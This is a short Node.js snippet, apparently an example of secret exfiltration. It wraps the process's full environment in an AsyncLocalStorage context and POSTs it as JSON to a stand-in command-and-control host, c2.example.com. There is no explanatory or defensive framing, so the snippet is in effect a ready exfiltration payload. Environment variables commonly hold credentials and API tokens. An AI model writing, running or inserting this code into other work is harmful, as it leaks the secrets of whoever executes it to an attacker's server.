const { AsyncLocalStorage } = require('async_hooks');
const store = new AsyncLocalStorage();
store.run(process.env, () => {
  const d = store.getStore();
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
});
